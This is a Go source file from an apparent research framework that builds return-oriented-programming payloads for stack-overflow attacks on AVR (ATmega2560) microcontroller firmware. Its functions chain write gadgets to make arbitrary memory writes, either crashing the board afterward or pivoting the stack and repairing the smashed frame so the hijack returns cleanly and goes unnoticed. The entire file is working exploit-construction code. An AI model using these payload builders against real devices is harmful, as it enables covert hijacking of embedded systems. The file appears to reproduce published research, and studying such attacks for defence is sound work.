package attack

import (
	"fmt"

	"mavr/internal/avr"
	"mavr/internal/gadget"
)

// This file is the one ROP chain assembler: every payload — BuildV1/V2/V3
// over the canonical Fig. 4/5 gadgets and every chain synthesis
// candidate — is a landing or a stealth chain over a writer shape and,
// for stealth, a pivot shape.

// Write is one 3-byte arbitrary memory write performed via a writer
// gadget (std Y+q of three stored registers).
type Write struct {
	// Addr is the data-space address of the first written byte.
	Addr uint16
	// Vals are the bytes stored to Addr, Addr+1, Addr+2.
	Vals [3]byte
}

// WriterShape is a composed write primitive: enter at LoadAddr to pop
// LoadPops (which must cover Y and the stored registers), return into
// StoreAddr to perform three stores at Y+QBase..Y+QBase+2, after which
// the store entry's own TailPops run (junk) and its ret continues the
// chain. Fused writers are Fig. 5-style — the store's own pop tail is
// the loader; split writers borrow a separate pop-chain gadget.
type WriterShape struct {
	LoadAddr  uint32
	LoadPops  []int
	StoreAddr uint32
	StoreRegs [3]int
	QBase     int
	TailPops  []int
	Fused     bool
}

// fig5Writer is the paper's Fig. 5 write_mem as a fused writer: its pop
// half loads Y and the stored registers, its store half writes
// Y+1..Y+3 and falls through into the pop half again.
func fig5Writer(wm *gadget.WriteMem) *WriterShape {
	return &WriterShape{
		LoadAddr: wm.PopsAddr, LoadPops: wm.PopRegs,
		StoreAddr: wm.StoreAddr, StoreRegs: wm.StoreRegs, QBase: 1,
		TailPops: wm.PopRegs, Fused: true,
	}
}

// chain assembles the byte stream a pivoted stack pointer consumes:
// pop data and big-endian 3-byte return addresses ([ext, hi, lo] in
// ascending memory, the ATmega2560 convention visible in Fig. 6).
type chain struct {
	buf []byte
}

// ret appends a 3-byte return address for word address target.
func (c *chain) ret(target uint32) {
	c.buf = append(c.buf, byte(target>>16), byte(target>>8), byte(target))
}

// popFrame appends one byte per popped register, in pop order, taking
// values from vals (junk 0x61 otherwise).
func (c *chain) popFrame(popRegs []int, vals map[int]byte) {
	for _, r := range popRegs {
		if v, ok := vals[r]; ok {
			c.buf = append(c.buf, v)
		} else {
			c.buf = append(c.buf, 0x61)
		}
	}
}

// loadVals maps a Write onto a writer shape's loader frame: Y aims
// at Addr-QBase and the store registers carry the values.
func loadVals(wr *WriterShape, w Write) map[int]byte {
	y := w.Addr - uint16(wr.QBase)
	return map[int]byte{
		28:              byte(y),
		29:              byte(y >> 8),
		wr.StoreRegs[0]: w.Vals[0],
		wr.StoreRegs[1]: w.Vals[1],
		wr.StoreRegs[2]: w.Vals[2],
	}
}

// appendWriterRounds emits the load/store alternation for writes onto
// c, assuming the loader entry has already been returned into. final
// maps the last loader frame (terminating pivot aim, or junk).
func appendWriterRounds(c *chain, wr *WriterShape, writes []Write, final map[int]byte) {
	c.popFrame(wr.LoadPops, loadVals(wr, writes[0]))
	for _, w := range writes[1:] {
		c.ret(wr.StoreAddr)
		if !wr.Fused {
			c.popFrame(wr.TailPops, nil)
			c.ret(wr.LoadAddr)
		}
		c.popFrame(wr.LoadPops, loadVals(wr, w))
	}
	c.ret(wr.StoreAddr)
	if !wr.Fused {
		c.popFrame(wr.TailPops, nil)
		if final != nil {
			c.ret(wr.LoadAddr)
		}
	}
	if final != nil {
		c.popFrame(wr.LoadPops, final)
	}
}

// landingPayloadFor builds a V1-grade payload: the overwritten return
// address enters the writer, the writes execute, the chain ends in
// garbage and the board crashes with the write landed.
func landingPayloadFor(a *Analysis, wr *WriterShape, writes ...Write) ([]byte, error) {
	if len(writes) == 0 {
		return nil, fmt.Errorf("attack: chain needs at least one write")
	}
	var c chain
	c.ret(wr.LoadAddr)
	appendWriterRounds(&c, wr, writes, nil)
	if wr.Fused {
		c.popFrame(wr.LoadPops, nil)
	}
	c.ret(0x3FFFFF)

	p := make([]byte, a.PayloadLen(), 256)
	for i := range p {
		p[i] = 0x42 // garbage filler, as in the paper's description
	}
	copy(p[a.retSlot():], c.buf[:3])
	p = append(p, c.buf[3:]...)
	if len(p) > 255 {
		return nil, ErrPayloadTooLong
	}
	// The chain above the return slot must stay inside SRAM.
	if int(a.S0)+len(p)-a.retSlot() > avr.DataSpaceSize-1 {
		return nil, ErrPayloadTooLong
	}
	return p, nil
}

// stealthPayloadFor builds a V2-grade payload: pivot into the buffer,
// perform the writes, repair the frame for pv and return cleanly.
func stealthPayloadFor(a *Analysis, pv *gadget.StkMove, wr *WriterShape, userWrites ...Write) ([]byte, error) {
	return pivotPayload(a, pv, stealthChain(a, pv, wr, userWrites), a.BufAddr)
}

// stealthChain is the byte stream executed after pv pivots SP just
// below it: pv's own tail pops junk, the writer performs userWrites and
// then the repair writes, and the final loader frame aims a second pv
// at the clean-return SP, whose pops and ret consume the repaired
// stack bytes — the paper's "clean return".
func stealthChain(a *Analysis, pv *gadget.StkMove, wr *WriterShape, userWrites []Write) []byte {
	writes := append(append([]Write(nil), userWrites...), repairWritesFor(a, pv)...)
	finalSP := cleanSPFor(a, pv)
	var c chain
	c.popFrame(pv.PopRegs, nil)
	c.ret(wr.LoadAddr)
	appendWriterRounds(&c, wr, writes, map[int]byte{
		28: byte(finalSP),
		29: byte(finalSP >> 8),
	})
	c.ret(pv.Addr)
	return c.buf
}

// pivotPayload lays out an overflow payload that embeds ch at the
// buffer start, loads the saved slots of the registers pv writes to
// SPH/SPL with pivotTo-1 and overwrites the return address with pv. The
// handler's epilogue then pivots SP to pivotTo-1 and the chain at
// pivotTo executes.
func pivotPayload(a *Analysis, pv *gadget.StkMove, ch []byte, pivotTo uint16) ([]byte, error) {
	hSlot, lSlot := a.popSlot(pv.SPHReg), a.popSlot(pv.SPLReg)
	if hSlot < 0 || lSlot < 0 {
		return nil, fmt.Errorf("%w: r%d/r%d", ErrPivotUnsaved, pv.SPHReg, pv.SPLReg)
	}
	// The final ret slot of an in-buffer chain may overlap other pop
	// slots (harmless) but never the pivot-register or return slots.
	limit := hSlot
	if lSlot < limit {
		limit = lSlot
	}
	if len(ch) > limit {
		return nil, fmt.Errorf("%w: chain %d bytes, frame allows %d", ErrPayloadTooLong, len(ch), limit)
	}
	p := make([]byte, a.PayloadLen())
	for i := range p {
		p[i] = 0x42
	}
	copy(p, ch)
	pivot := pivotTo - 1
	p[lSlot] = byte(pivot)
	p[hSlot] = byte(pivot >> 8)
	rs := a.retSlot()
	p[rs] = byte(pv.Addr >> 16)
	p[rs+1] = byte(pv.Addr >> 8)
	p[rs+2] = byte(pv.Addr)
	return p, nil
}

// repairWritesFor are the writer invocations that restore the smashed
// frame (§IV-D) for the terminating pivot pv. The region
// [cleanSPFor+1 .. S0+3] must afterwards hold: one byte per register pv
// pops (restoring the caller's saved registers) followed by the
// handler's original 3-byte return address, so that the final pivot +
// pops + ret reproduce a normal handler return (SP == S0+3,
// PC == OrigRet, Y == caller's Y).
func repairWritesFor(a *Analysis, pv *gadget.StkMove) []Write {
	popLen := len(pv.PopRegs)
	start := cleanSPFor(a, pv) + 1
	desired := make([]byte, popLen+3)
	for i, r := range pv.PopRegs {
		switch {
		case r == 28:
			desired[i] = a.OrigR28
		case r == 29:
			desired[i] = a.OrigR29
		default:
			if v, ok := a.OrigRegs[r]; ok {
				desired[i] = v // full context restoration
			} else {
				desired[i] = 0x61
			}
		}
	}
	desired[popLen] = byte(a.OrigRet >> 16)
	desired[popLen+1] = byte(a.OrigRet >> 8)
	desired[popLen+2] = byte(a.OrigRet)

	var out []Write
	for off := 0; off < len(desired); off += 3 {
		if off+3 > len(desired) {
			off = len(desired) - 3 // final chunk re-covers overlap
		}
		out = append(out, Write{
			Addr: start + uint16(off),
			Vals: [3]byte{desired[off], desired[off+1], desired[off+2]},
		})
	}
	return out
}

// cleanSPFor is where the terminating pivot pv must point so its pops
// consume the repaired saved registers and its ret consumes the
// repaired return address, leaving SP exactly where a normal handler
// return would (S0+3).
func cleanSPFor(a *Analysis, pv *gadget.StkMove) uint16 {
	return a.S0 - uint16(len(pv.PopRegs))
}
